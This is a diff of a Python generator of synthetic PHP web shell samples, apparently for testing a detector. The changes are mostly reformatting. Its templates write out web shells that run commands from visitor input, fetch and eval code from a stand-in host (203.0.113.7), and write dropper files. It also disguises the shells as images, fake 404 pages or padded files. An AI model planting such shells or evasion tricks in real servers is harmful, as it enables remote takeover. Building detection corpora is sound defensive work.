@@ -166,7 +166,9 @@ _TAKING_ONE = ("system", "exec", "shell_exec", "passthru", "assert")
 
 
 def _case(draw: Draw, name: str) -> str:
-    return "".join(draw.choice((each.upper(), each)) for each in name) if draw.random() < 0.3 else name
+    return (
+        "".join(draw.choice((each.upper(), each)) for each in name) if draw.random() < 0.3 else name
+    )
 
 
 def direct(draw: Draw) -> str:
@@ -174,7 +176,11 @@ def direct(draw: Draw) -> str:
     before, value = encoded_source(draw)
     name = _case(draw, draw.choice(("eval", "assert", *_COMMANDS)))
     slash = draw.choice(("", "", "\\")) if name.lower() != "eval" else ""
-    at = draw.choice(("", "@", "echo ", "print ", "die(")) if name.lower() != "eval" else draw.choice(("", "@"))
+    at = (
+        draw.choice(("", "@", "echo ", "print ", "die("))
+        if name.lower() != "eval"
+        else draw.choice(("", "@"))
+    )
     end = ")" if at == "die(" else ""
     extra = {"popen": ",'r'", "proc_open": ",[['pipe','r'],['pipe','w']],$p"}.get(name.lower(), "")
     tail = draw.choice(("", ".' 2>&1'", '." 2>&1"')) if name.lower() in _COMMANDS else ""
@@ -219,7 +225,7 @@ def named_by_visitor(draw: Draw) -> str:
             f"parse_str($_SERVER['QUERY_STRING'], {name}); {name}['f']({name}['p']);",
             f"@array_filter([{two}], {one});",
             f"{name}=$_POST; {name}['x']({name}['y']);",
-            f"foreach($_POST as $k=>$v) $k($v);",
+            "foreach($_POST as $k=>$v) $k($v);",
         )
     )
 
@@ -309,14 +315,14 @@ def loading(draw: Draw) -> str:
             f"include 'data://text/plain;base64,'.base64_encode({value});",
             f"include('data:text/plain,'.{value});",
             f"require {source(draw)};",
-            f"include('php://input');",
+            "include('php://input');",
             f"@include_once $_FILES['{name}']['tmp_name'];",
             f"file_put_contents('{name}.php', {value}); include '{name}.php';",
             f"$t=tempnam('/tmp','x'); file_put_contents($t, {value}); include $t;"
             f" file_put_contents('/tmp/{name}.php', {value});",
             f"eval(file_get_contents('http://203.0.113.7/{name}.txt'));",
             f"include 'http://203.0.113.7/{name}';",
-            f"$c=curl_init('http://203.0.113.7/'); curl_setopt($c,19913,1); eval(curl_exec($c));",
+            "$c=curl_init('http://203.0.113.7/'); curl_setopt($c,19913,1); eval(curl_exec($c));",
             f"@include '{name}/logo.png';",
             f'@include "\\x2ftm\\x70/.{name}.ico";',
         )
@@ -332,8 +338,8 @@ def writing(draw: Draw) -> str:
             f"$h=fopen({one},'w'); fwrite($h,{two}); fclose($h);",
             f"$n={one}; $d={two}; @file_put_contents($n,base64_decode($d));",
             f"fputs(fopen('{word(draw, 5)}.php','w'),{two});",
-            f"copy($_POST['u'],$_POST['n']);",
-            f"file_put_contents($_GET['n'], file_get_contents($_GET['u']));",
+            "copy($_POST['u'],$_POST['n']);",
+            "file_put_contents($_GET['n'], file_get_contents($_GET['u']));",
         )
     )
 
@@ -447,7 +453,9 @@ def _statements(code: str) -> list[str]:
             quote = sign
         else:
             depth += (sign in "([{") - (sign in ")]}")
-            if (sign == ";" or (sign == "}" and code[position + 1 : position + 2] == " ")) and not depth:
+            if (
+                sign == ";" or (sign == "}" and code[position + 1 : position + 2] == " ")
+            ) and not depth:
                 parts.append(code[start : position + 1])
                 start = position + 1
     return [*parts, code[start:]] if code[start:].strip() else parts
@@ -463,7 +471,9 @@ def commented(draw: Draw, code: str) -> str:
         elif sign in "'\"`":
             quote = sign
         if sign == "(" and not quote and draw.random() < 0.7:
-            out.append(draw.choice(("/**/", "/*" + word(draw) + "*/", " ", "\n", "//" + word(draw) + "\n")))
+            out.append(
+                draw.choice(("/**/", "/*" + word(draw) + "*/", " ", "\n", "//" + word(draw) + "\n"))
+            )
         out.append(sign)
     return "".join(out)
 
@@ -484,7 +494,21 @@ if ($options->get('lines') > 10) { $page = max(1, (int) 3); }
 def written(draw: Draw, code: str) -> tuple[str, bytes]:
     """A file of the code: tags, company, and the trick's name."""
     raw = code.encode("latin-1", "replace")
-    kind = draw.choice(("tag", "tag", "tag", "short", "script", "echo", "filler", "image", "padded", "html", "crlf"))
+    kind = draw.choice(
+        (
+            "tag",
+            "tag",
+            "tag",
+            "short",
+            "script",
+            "echo",
+            "filler",
+            "image",
+            "padded",
+            "html",
+            "crlf",
+        )
+    )
     if "namespace" in code or "<<<" in code:
         kind = "tag"
     if kind == "short":
@@ -492,16 +516,31 @@ def written(draw: Draw, code: str) -> tuple[str, bytes]:
     if kind == "script":
         return kind, b'<script language="php">' + raw + b"</script>"
     if kind == "echo" and code.count(";") == 1 and code[:2] not in ("if", "do", "tr", "sw", "go"):
-        return kind, b"<?=" + raw.replace(b"echo ", b"").replace(b"print ", b"").rstrip(b";") + b"?>"
+        return kind, b"<?=" + raw.replace(b"echo ", b"").replace(b"print ", b"").rstrip(
+            b";"
+        ) + b"?>"
     if kind == "filler":
-        return kind, b"<?php" + _FILLER.encode() * draw.randint(1, 6) + raw + b"\n" + _FILLER.replace("class Options", "class Choices").replace("format_price", "show_price").encode()
+        return kind, b"<?php" + _FILLER.encode() * draw.randint(
+            1, 6
+        ) + raw + b"\n" + _FILLER.replace("class Options", "class Choices").replace(
+            "format_price", "show_price"
+        ).encode()
     if kind == "image":
-        head = draw.choice((b"GIF89a\x01\x00\x01\x00", b"\xff\xd8\xff\xe0\x00\x10JFIF\0", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR"))
+        head = draw.choice(
+            (
+                b"GIF89a\x01\x00\x01\x00",
+                b"\xff\xd8\xff\xe0\x00\x10JFIF\0",
+                b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR",
+            )
+        )
         return kind, head + draw.randbytes(60).replace(b"<", b".") + b"\n<?php " + raw + b" ?>"
     if kind == "padded":
         return kind, b"<?php " + b" " * 3000 + b"/*" + b"x" * 60000 + b"*/" + raw
     if kind == "html":
-        return kind, b"<!DOCTYPE html><html><body><h1>404</h1>\n<?php " + raw + b" ?>\n</body></html>"
+        return (
+            kind,
+            b"<!DOCTYPE html><html><body><h1>404</h1>\n<?php " + raw + b" ?>\n</body></html>",
+        )
     end = b"\r\n" if kind == "crlf" else b" "
     return kind, b"<?php" + end + raw
 
@@ -522,7 +561,9 @@ def php_sample(draw: Draw, family: str) -> Sample:
         code = packed(draw, code, draw.randint(1, 3))
         tricks.append("packed")
     kind, content = written(draw, code)
-    ending = {"image": draw.choice((".php", ".gif", ".jpg"))}.get(kind, draw.choice((".php", ".phtml", ".inc", ".php5")))
+    ending = {"image": draw.choice((".php", ".gif", ".jpg"))}.get(
+        kind, draw.choice((".php", ".phtml", ".inc", ".php5"))
+    )
     return Sample(family, f"{word(draw, 6)}-{'-'.join((*tricks[1:], kind))}{ending}", content)
 
 
@@ -537,7 +578,9 @@ def samples(seed: int, count: int) -> list[Sample]:
             name, text = OTHER[family](draw)
             made.append(Sample(family, name, text.encode("utf-8", "surrogateescape")))
         elif family == "packed":
-            inner = PLAIN[draw.choice(("direct", "variable_function", "callback", "function_wrapped"))](draw)
+            inner = PLAIN[
+                draw.choice(("direct", "variable_function", "callback", "function_wrapped"))
+            ](draw)
             content = written(draw, packed(draw, inner, draw.randint(1, 5)))[1]
             made.append(Sample("packed", f"{word(draw, 6)}.php", content))
         else:
